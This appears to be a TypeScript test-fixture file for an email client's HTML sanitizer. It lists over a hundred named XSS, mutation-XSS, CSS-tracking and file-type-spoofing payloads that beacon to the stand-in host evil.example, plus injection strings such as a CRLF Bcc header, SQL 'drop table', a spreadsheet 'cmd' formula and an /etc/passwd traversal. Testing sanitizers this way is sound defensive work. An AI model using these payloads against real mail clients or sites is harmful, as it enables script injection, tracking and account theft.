/** Runs if anything does: leaves a mark on the outermost page, and calls home. */
const run = (id: string) => `top.tripped='${id}';new Image().src='http://evil.example/ran-${id}'`;
const js = (id: string) => `javascript:top.tripped='${id}'`;
const encoded = (id: string) => Buffer.from(`<script>${run(id)}</script>`).toString('base64');
const home = (id: string) => `http://evil.example/${id}`;

/** How mails have tried to run something, or to tell that they were opened. By name; the name is the id. */
const vectors: Record<string, (id: string) => string> = {
  // Scripts, as they are and as parsers misread them.
  script: (id) => `<script>${run(id)}</script>`,
  'script-src': (id) => `<script src="${home(id)}.js"></script>`,
  'script-module': (id) => `<script type="module">${run(id)}</script>`,
  'script-case': (id) => `<ScRiPt>${run(id)}</sCrIpT>`,
  'script-split': (id) => `<scr<script>ipt>${run(id)}</scr</script>ipt>`,
  'script-slash': (id) => `<script/x>${run(id)}</script>`,
  'script-null': (id) => `<scri\u0000pt>${run(id)}</script>`,
  'script-in-comment': (id) => `<!--><script>${run(id)}</script>-->`,
  'script-in-conditional': (id) => `<!--[if gte IE 4]><script>${run(id)}</script><![endif]-->`,
  'script-in-cdata': (id) => `<![CDATA[<script>${run(id)}</script>]]>`,
  'script-entity': (id) => `&lt;script&gt;${run(id)}&lt;/script&gt;`,
  'script-utf7': (id) => `+ADw-script+AD4-${run(id)}+ADw-/script+AD4-`,
  'import-map': (id) => `<script type="importmap">{"imports":{"x":"${home(id)}"}}</script>`,
  'speculation-rules': (id) =>
    `<script type="speculationrules">{"prefetch":[{"urls":["${home(id)}"]}]}</script>`,
  // Event handlers.
  'img-onerror': (id) => `<img src=x onerror="${run(id)}">`,
  'img-onload': (id) =>
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run(id)}" onerror="${run(id)}">`,
  'img-onerror-case': (id) => `<IMG SRC=x OnErRoR="${run(id)}">`,
  'img-slash': (id) => `<img/src=x/onerror="${run(id)}">`,
  'img-quotes': (id) => `<img """><img src=x onerror="${run(id)}">">`,
  'img-newline': (id) => `<img\nsrc=x\nonerror\n=\n"${run(id)}">`,
  'img-grave': (id) => `<img src=\`x\` onerror="${run(id)}">`,
  'body-onload': (id) => `<body onload="${run(id)}"><p>body</p></body>`,
  'details-ontoggle': (id) => `<details open ontoggle="${run(id)}"><summary>more</summary></details>`,
  'div-onmouseover': (id) => `<div onmouseover="${run(id)}" onclick="${run(id)}">hover me</div>`,
  'a-onfocus': (id) => `<a href="#x" autofocus onfocus="${run(id)}">focus</a>`,
  'animation-event': (id) =>
    `<style>@keyframes k{from{color:red}}</style><p style="animation:k 1s" onanimationstart="${run(id)}">x</p>`,
  'marquee-onstart': (id) => `<marquee onstart="${run(id)}" loop=1>x</marquee>`,
  'input-autofocus': (id) => `<input autofocus onfocus="${run(id)}"><select autofocus onfocus="${run(id)}">`,
  'video-onerror': (id) =>
    `<video><source onerror="${run(id)}" src="x"></video><audio src=x onerror="${run(id)}">`,
  'table-background': (id) =>
    `<table background="${home(id)}"><tr><td background="${js(id)}">x</td></tr></table>`,
  // SVG, MathML and other worlds.
  'svg-onload': (id) => `<svg onload="${run(id)}"></svg>`,
  'svg-script': (id) => `<svg><script>${run(id)}</script></svg>`,
  'svg-animate': (id) =>
    `<svg><a><animate attributeName=href values="${js(id)}"/><text x=20 y=20>click</text></a></svg>`,
  'svg-image': (id) => `<svg><image href="${home(id)}.png" onerror="${run(id)}"/></svg>`,
  'svg-use': (id) => `<svg><use href="data:image/svg+xml;base64,${encoded(id)}#x"/></svg>`,
  'svg-foreign': (id) => `<svg><foreignObject><img src=x onerror="${run(id)}"></foreignObject></svg>`,
  'math-href': (id) => `<math href="${js(id)}">click</math>`,
  'math-action': (id) =>
    `<math><maction actiontype="statusline#http://evil.example" xlink:href="${js(id)}">x</maction></math>`,
  'xml-island': (id) => `<xml onreadystatechange="${run(id)}"><i><b>x</b></i></xml>`,
  // Mutation: harmless until it is read a second time.
  'mxss-noscript': (id) =>
    `<noscript><p title="</noscript><img src=x onerror=${run(id).replaceAll("'", '&quot;')}>">`,
  'mxss-style-in-svg': (id) =>
    `<svg></p><style><a id="</style><img src=x onerror='${run(id).replaceAll("'", '&quot;')}'>">`,
  'mxss-math': (id) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(id).replaceAll("'", '&quot;')}&gt;">`,
  'mxss-form': (id) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${run(id).replaceAll("'", '&quot;')}' src>">`,
  'mxss-textarea': (id) =>
    `<textarea><img title="</textarea><img src=x onerror='${run(id).replaceAll("'", '&quot;')}'>">`,
  'mxss-title': (id) => `<title><p id="</title><img src=x onerror='${run(id).replaceAll("'", '&quot;')}'>">`,
  'mxss-xmp': (id) => `<xmp><p id="</xmp><img src=x onerror='${run(id).replaceAll("'", '&quot;')}'>">`,
  'mxss-noembed': (id) =>
    `<noembed><p id="</noembed><img src=x onerror='${run(id).replaceAll("'", '&quot;')}'>">`,
  'mxss-backtick': (id) => `<p title="\`\`onmouseover=${run(id)}">x</p>`,
  'mxss-attribute': (id) =>
    `<a title="&lt;/a&gt;&lt;img src=x onerror=${run(id).replaceAll("'", '&quot;')}&gt;">x</a>`,
  template: (id) => `<template><img src=x onerror="${run(id)}"></template>`,
  'template-nested': (id) => `<template><template></template><script>${run(id)}</script></template>`,
  'template-shadow': (id) =>
    `<div><template shadowrootmode="open"><img src=x onerror="${run(id)}"><slot></slot></template></div>`,
  plaintext: (id) => `<plaintext><img src=x onerror="${run(id)}">`,
  // Links.
  'link-javascript': (id) => `<a href="${js(id)}">click</a>`,
  'link-entities': (id) => `<a href="&#106;&#97;&#118;&#97;script&colon;top.tripped='${id}'">click</a>`,
  'link-control': (id) => `<a href="&#1;java&#9;scr&#10;ipt:top.tripped='${id}'">click</a>`,
  'link-space': (id) => `<a href="  \u00a0javascript:top.tripped='${id}'">click</a>`,
  'link-vbscript': () => `<a href="vbscript:msgbox(1)">click</a>`,
  'link-data': (id) => `<a href="data:text/html;base64,${encoded(id)}">click</a>`,
  'link-blob': () => `<a href="blob:http://evil.example/x">click</a>`,
  'link-map': (id) => `<img usemap="#m" src=x><map name=m><area shape=default href="${js(id)}"></map>`,
  'link-ping': (id) => `<a href="#top" ping="${home(id)}">click</a>`,
  'link-prefetch': (id) =>
    `<link rel=prefetch href="${home(id)}"><link rel=preconnect href="http://evil.example"><link rel=stylesheet href="${home(id)}.css">`,
  // Styles.
  'style-url': (id) => `<p style="background:url(${home(id)}.png)">x</p>`,
  'style-url-escaped': (id) => `<p style="background:u\\72l(${home(id)}.png)">x</p>`,
  'style-url-commented': (id) =>
    `<p style="background:u/**/rl(${home(id)}.png);background-image:url/**/('${home(id)}')">x</p>`,
  'style-image-set': (id) =>
    `<p style="background-image:-webkit-image-set(url(${home(id)}) 1x);cursor:url(${home(id)}),auto">x</p>`,
  'style-list': (id) =>
    `<ul style="list-style-image:url(${home(id)})"><li>x</ul><q style="content:url(${home(id)})">x</q>`,
  'style-variable': (id) => `<p style="--x:url(${home(id)});background:var(--x)">x</p>`,
  'style-expression': (id) =>
    `<p style="width:expression(${run(id)});behavior:url(${home(id)});-moz-binding:url(${home(id)})">x</p>`,
  'style-import': (id) => `<style>@import "${home(id)}.css";@import url(//evil.example/${id});</style>`,
  'style-font': (id) =>
    `<style>@font-face{font-family:x;src:url(${home(id)}.woff)}p{font-family:x}</style><p>x</p>`,
  'style-cover': () =>
    `<div style="position:fixed;inset:0;z-index:99999;background:red">Your session has ended</div>`,
  // What loads by itself.
  'image-remote': (id) => `<img src="${home(id)}.png" width=1 height=1>`,
  'image-protocol-relative': (id) => `<img src="//evil.example/${id}.png">`,
  'image-backslash': (id) => `<img src="\\\\evil.example\\${id}.png"><img src="/\\evil.example/${id}.png">`,
  'image-srcset': (id) => `<img srcset="${home(id)} 1x, ${home(id)}-2 2x" src="data:,">`,
  'image-lazy': (id) => `<img data-kontor-src="${home(id)}.png" data-src="${home(id)}">`,
  'image-svg-data': (id) => `<img src="data:image/svg+xml;base64,${encoded(id)}">`,
  picture: (id) => `<picture><source srcset="${home(id)}"><img src="x"></picture>`,
  'image-input': (id) => `<input type=image src="${home(id)}" onerror="${run(id)}">`,
  'image-own-api': () => `<img src="/api/v1/session"><img src="/api/v1/conversations/1/read">`,
  iframe: (id) => `<iframe src="${home(id)}"></iframe>`,
  'iframe-srcdoc': (id) => `<iframe srcdoc="<script>${run(id)}</script>"></iframe>`,
  'iframe-javascript': (id) => `<iframe src="${js(id)}"></iframe>`,
  object: (id) =>
    `<object data="${home(id)}"></object><object data="data:text/html;base64,${encoded(id)}"></object>`,
  embed: (id) => `<embed src="${home(id)}"><applet code="${home(id)}"></applet>`,
  frameset: (id) => `<frameset><frame src="${home(id)}"></frameset>`,
  'meta-refresh': (id) => `<meta http-equiv="refresh" content="0;url=${home(id)}">`,
  'meta-refresh-javascript': (id) => `<meta http-equiv="refresh" content="0;url=${js(id)}">`,
  'meta-policy': () => `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`,
  base: (id) => `<base href="http://evil.example/"><img src="${id}.png"><a href="x">x</a>`,
  form: (id) =>
    `<form action="${home(id)}" id=f><input name=p><button formaction="${js(id)}">send</button></form>`,
  dialog: () => `<dialog open style="position:fixed;inset:0">Sign in again: <input type=password></dialog>`,
  portal: (id) => `<portal src="${home(id)}"></portal><fencedframe src="${home(id)}"></fencedframe>`,
  manifest: (id) => `<html manifest="${home(id)}"><p>x</p></html>`,
  'cid-script': () => `<img src="cid:evil-svg"><img src="cid:no-such"><a href="cid:evil-svg">x</a>`,
  clobber: () => `<form name=body><input name=attributes></form><img name=getElementById id=contentDocument>`,
  deep: (id) => `${'<div>'.repeat(400)}<img src=x onerror="${run(id)}">${'</div>'.repeat(400)}`,
  'long-attribute': (id) =>
    `<p title="${'x'.repeat(50_000)}"><img src=x onerror="${run(id)}" alt="${'y'.repeat(20_000)}">`,
  // And once more, as those who read what we drop have tried since.
  'script-form-feed': (id) => `<script\f>${run(id)}</script\f>`,
  'script-self-closing': (id) => `<script src="${home(id)}.js"/>`,
  'script-json-breakout': (id) =>
    `<script type="application/json">{"a":"</script><script>${run(id)}//"}</script>`,
  'script-in-svg-cdata': (id) => `<svg><script><![CDATA[${run(id)}]]></script></svg>`,
  'script-in-noscript': (id) => `<noscript><script>${run(id)}</script></noscript>`,
  'attr-without-space': (id) => `<img src="x"onerror="${run(id)}">`,
  'attr-twice': (id) => `<img src=x onerror="${run(id)}" onerror="${run(id)}">`,
  'attr-form-feed': (id) => `<img\fsrc=x\fonerror="${run(id)}">`,
  'attr-slash': (id) => `<img src=x onerror/="${run(id)}" onerror="${run(id)}">`,
  'attr-nul': (id) => `<img src=x onerror\0="${run(id)}" o\0nload="${run(id)}">`,
  'attr-entities': (id) => `<img src=x onerror="&#116;op.tripped=&apos;${id}&apos;">`,
  'attr-no-quotes': (id) => `<img src=x onerror=top.tripped=/${id}/.source>`,
  'html-onclick': (id) => `<html onclick="${run(id)}" onmouseover="${run(id)}"><p>x</p></html>`,
  'custom-element': (id) => `<x-y tabindex=1 autofocus onfocus="${run(id)}" onclick="${run(id)}">x</x-y>`,
  popover: (id) =>
    `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${run(id)}">Your session has ended</div>`,
  'content-visibility': (id) =>
    `<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="${run(id)}">x</p>`,
  transition: (id) =>
    `<style>a{transition:color 1ms}a:hover{color:red}</style><a ontransitionend="${run(id)}">x</a>`,
  scroll: (id) =>
    `<div style="overflow:scroll;height:9px" onscroll="${run(id)}"><p style="height:99px">x</div>`,
  'body-handlers': (id) =>
    `<body onpageshow="${run(id)}" onfocus="${run(id)}" onresize="${run(id)}" onhashchange="${run(id)}">`,
  'audio-onloadstart': (id) => `<audio src="${home(id)}" onloadstart="${run(id)}" autoplay></audio>`,
  'video-poster': (id) => `<video poster="${home(id)}.png" src="${home(id)}.mp4" autoplay></video>`,
  track: (id) => `<video src="data:video/mp4,"><track default src="${home(id)}.vtt"></video>`,
  'body-background': (id) => `<body background="${home(id)}.png">x</body>`,
  bgsound: (id) =>
    `<bgsound src="${home(id)}"><layer src="${home(id)}"></layer><image src=x onerror="${run(id)}">`,
  isindex: (id) =>
    `<isindex action="${js(id)}" type=image src=x onerror="${run(id)}"><keygen autofocus onfocus="${run(id)}">`,
  'svg-begin': (id) => `<svg><animate onbegin="${run(id)}" attributeName=x dur=1s></svg>`,
  'svg-set': (id) => `<svg><set attributeName=onmouseover to="${run(id)}"></set></svg>`,
  'svg-filter': (id) => `<svg><filter><feImage href="${home(id)}.svg"/></filter></svg>`,
  'svg-title': (id) => `<svg><title><img src=x onerror="${run(id)}"></title></svg>`,
  'svg-desc': (id) => `<svg><desc><script>${run(id)}</script></desc></svg>`,
  'svg-handler': (id) => `<svg><handler type="text/javascript">${run(id)}</handler></svg>`,
  'svg-in-data-object': (id) =>
    `<object type="image/svg+xml" data="data:image/svg+xml;base64,${encoded(id)}"></object>`,
  'svg-style-breakout': (id) => `<svg><style><img src=x onerror="${run(id)}"></style></svg>`,
  'math-annotation': (id) =>
    `<math><annotation-xml encoding="text/html"><script>${run(id)}</script></annotation-xml></math>`,
  'math-style': (id) => `<math><style><img src=x onerror="${run(id)}"></style></math>`,
  'mxss-cdata': (id) => `<svg><![CDATA[><img src=x onerror="${run(id)}">]]></svg>`,
  'mxss-comment-bang': (id) => `<!--!><img src=x onerror="${run(id)}">-->`,
  'mxss-comment-end': (id) => `<!-- --!><img src=x onerror="${run(id)}">-->`,
  'mxss-processing': (id) => `<?php echo "><img src=x onerror="${run(id)}">?>`,
  'mxss-select': (id) => `<select><option><style></option></select><img src=x onerror="${run(id)}"></style>`,
  'mxss-table': (id) => `<table><style><table><img src=x onerror="${run(id)}"></style></table>`,
  'mxss-deep-svg': (id) =>
    `${'<svg>'.repeat(300)}<style><a id="</style><img src=x onerror='${run(id).replaceAll("'", '&quot;')}'>">`,
  'mxss-end-tag': (id) => `</p><img src=x onerror="${run(id)}"></br><img src=x onerror="${run(id)}">`,
  'mxss-entity-attribute': (id) => `<p title='"&gt;&lt;img src=x onerror="${run(id)}"&gt;'>x</p>`,
  'mxss-namespace': (id) =>
    `<math><mi><b><mtable><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(id).replaceAll("'", '&quot;')}&gt;">`,
  'link-tab-entity': (id) => `<a href="jav&Tab;ascript:top.tripped='${id}'">click</a>`,
  'link-newline-entity': (id) => `<a href="&NewLine;javascript&colon;top.tripped='${id}'">click</a>`,
  'link-nul': (id) => `<a href="java\0script:top.tripped='${id}'">click</a>`,
  'link-case': (id) => `<a href="JaVaScRiPt:top.tripped='${id}'">click</a>`,
  'link-data-script': (id) => `<a href="data:text/javascript,top.tripped='${id}'">click</a>`,
  'link-view-source': () =>
    `<a href="view-source:http://evil.example">click</a><a href="file:///etc/passwd">click</a>`,
  'link-base-target': (id) => `<base target=_top><a href="${js(id)}">click</a>`,
  'link-window-name': (id) => `<a href="${js(id)}" target="top.tripped='${id}'">click</a>`,
  'link-icon': (id) => `<link rel=icon href="${home(id)}.ico"><link rel="manifest" href="${home(id)}.json">`,
  'link-preload': (id) =>
    `<link rel=preload as=image href="${home(id)}.png"><link rel=modulepreload href="${home(id)}.js"><link rel=dns-prefetch href="//evil.example">`,
  'meta-refresh-data': (id) =>
    `<meta http-equiv=refresh content="0; url=data:text/html;base64,${encoded(id)}">`,
  'meta-cookie': () => `<meta http-equiv="Set-Cookie" content="kontor_session=evil">`,
  'meta-csp-report': (id) =>
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${home(id)}"><img src=x>`,
  'style-newline': (id) => `<p style="background:\nu\nrl(${home(id)});background:url\n(${home(id)})">x</p>`,
  'style-escaped-name': (id) => `<p style="back\\67round:\\75rl(${home(id)})">x</p>`,
  'style-quotes': (id) => `<p style='font-family:"x;background:url(${home(id)});"'>x</p>`,
  'style-braces': (id) => `<p style="color:red}body{background:url(${home(id)})">x</p>`,
  'style-selectors': (id) =>
    `<style>a[href^=h]{background:url(${home(id)}.png)}</style><a href="https://x.example">x</a>`,
  'style-nested': (id) => `<style><style>p{background:url(${home(id)})}</style><p>x</p></style>`,
  'style-layer': (id) =>
    `<style>@layer{@media all{@supports (color:red){p{background:url(${home(id)})}}}}</style><p>x</p>`,
  'style-cursor': (id) =>
    `<p style="cursor:url('${home(id)}.cur'),pointer;mask:url(${home(id)}#m);filter:url(${home(id)}#f)">x</p>`,
  'style-counter': (id) => `<style>p::after{content:url(${home(id)}.png)}</style><p>x</p>`,
  'image-userinfo': (id) =>
    `<img src="http://127.0.0.1@evil.example/${id}.png"><img src="http:evil.example/${id}">`,
  'image-data-html': (id) =>
    `<img src="data:text/html;base64,${encoded(id)}"><img src="data:image/svg+xml,<svg onload='${run(id)}'>">`,
  'image-tab': (id) =>
    `<img src="ht\ttp://evil.example/${id}.png"><img src=" http://evil.example/${id}-2.png">`,
  'image-placeholder': (id) =>
    `<img data-kontor-src="${js(id)}" src="x"><p data-kontor-src="${home(id)}">x</p>`,
  'iframe-data': (id) => `<iframe src="data:text/html;base64,${encoded(id)}"></iframe>`,
  'iframe-entities': (id) => `<iframe srcdoc="&lt;script&gt;${run(id)}&lt;/script&gt;"></iframe>`,
  'iframe-name': (id) => `<iframe name="x" src="about:blank"></iframe><a target=x href="${js(id)}">click</a>`,
  'shadow-closed': (id) =>
    `<p><template shadowrootmode=closed><style>@import "${home(id)}.css"</style><slot></slot></template>x</p>`,
  'template-end': (id) =>
    `</template></div></body></html><script>${run(id)}</script><img src=x onerror="${run(id)}">`,
  'clobber-document': () =>
    `<img name=body><img name=cookie><form id=documentElement><input name=parentNode></form>`,
  'clobber-frame': () => `<a id=tripped></a><a id=location href="x"></a><iframe name=top></iframe>`,
  rtl: (id) => `<p dir=rtl>\u202eevil.example/${id}\u2066<a href="${js(id)}">\u202egpj.exe</a>`,
};

export interface HostileMail {
  id: string;
  html: string;
}

/** Each begins with words by which it is known to be shown. */
export const hostileMails: HostileMail[] = Object.entries(vectors).map(([id, html]) => ({
  id,
  html: `<p>shown-${id}.</p>${html(id)}`,
}));

/** Words that people and programs put into names, subjects, tags and names of files. */
export const hostileWords: string[] = [
  `<img src=x onerror="top.tripped='word-img'">`,
  `"><svg/onload="top.tripped='word-svg'">`,
  `'-(top.tripped='word-quote')-'`,
  `{{constructor.constructor("top.tripped='word-template'")()}}`,
  `\${top.tripped='word-literal'}`,
  `</title><script>top.tripped='word-title'</script>`,
  `javascript:top.tripped='word-javascript'`,
  `\u202egnp.exe\u2066 \u0645\u0631\u062d\u0628\u0627`,
  `${'W'.repeat(400)}`,
  `../../etc/passwd\u0000.html`,
  `<script>top.tripped='word-script'</script>`,
  `<!--<img src=x onerror="top.tripped='word-comment'">-->`,
  `&lt;img src=x onerror="top.tripped='word-entity'"&gt;`,
  `" onmouseover="top.tripped='word-attribute'" x="`,
  `' autofocus onfocus='top.tripped="word-single"' x='`,
  `\u0000\u0001\u0007\u001b[31m\u007f`,
  `a\r\nBcc: everyone@evil.example\r\n\r\nbody`,
  `\ufeff\u200b\u200d\u2028\u2029x`,
  `${'a\u0301\u0327\u035c'.repeat(60)}`,
  `%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E`,
  `<%= process.exit() %> #{7*7} \${7*7} {{7*7}} [[7*7]]`,
  `'; drop table message; --`,
  `__proto__`,
  `constructor`,
  `null`,
  `=cmd|' /C calc'!A0`,
  `data:text/html,<script>top.tripped='word-data'</script>`,
  `<style>*{display:none}</style>`,
  `<base href="http://evil.example/">`,
  `<iframe srcdoc="<script>top.tripped='word-frame'</script>">`,
];

export const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>top.tripped='svg'</script></svg>`;
const page = `<!doctype html><script>top.tripped='file'</script>`;
const bytes = 'application/octet-stream';
const words = 'text/plain; charset=utf-8';

/** Files that are not what they say, or are and must not be shown; and as what they may be served. */
export const lyingFiles: [name: string, type: string, content: string, servedAs: string][] = [
  ['page.html', 'text/html', page, bytes],
  ['page.xhtml', 'application/xhtml+xml', page, bytes],
  ['drawing.svg', 'image/svg+xml', svg, bytes],
  ['photo.png', 'image/png', page, bytes],
  ['photo.jpg', 'image/jpeg', svg, bytes],
  ['photo.webp', 'image/webp', page, bytes],
  ['photo.avif', 'image/avif', page, bytes],
  ['paper.pdf', 'application/pdf', page, bytes],
  ['data.xml', 'text/xml', `<?xml-stylesheet href="javascript:top.tripped='file'"?><x/>`, bytes],
  ['words.txt', 'text/plain', page, words],
  ['table.csv', 'text/csv', page, words],
  ['code.js', 'text/javascript', `top.tripped='file'`, bytes],
  ['sound.mp3', 'audio/mpeg', page, bytes],
  ['sound.ogg', 'audio/ogg', page, bytes],
  ['film.mp4', 'video/mp4', page, bytes],
  ['film.webm', 'video/webm', page, bytes],
  ['nothing', 'application/octet-stream', page, bytes],
  ['case.PNG', 'IMAGE/PNG', page, bytes],
  ['picture.html', 'image/gif', page, bytes],
  ['page.mht', 'application/x-mimearchive', page, bytes],
  ['photo.bmp', 'image/bmp', `BM${page}`, bytes],
  ['photo.gif', 'image/gif', `GIF8${page}`, bytes],
  ['paper2.pdf', 'application/pdf', ` %PDF-1.7 ${page}`, bytes],
  ['sound.wav', 'audio/wav', `RIFF${page}`, bytes],
  ['feed.atom', 'application/atom+xml', page, bytes],
  ['view.xsl', 'text/xsl', page, bytes],
  ['app.webmanifest', 'application/manifest+json', page, bytes],
  ['worker.wasm', 'application/wasm', page, bytes],
  ['film.swf', 'application/x-shockwave-flash', page, bytes],
  ['odd.type', 'image/png+html', page, bytes],
  ['word.txt.html', 'text/plain; charset=utf-7', page, words],
];
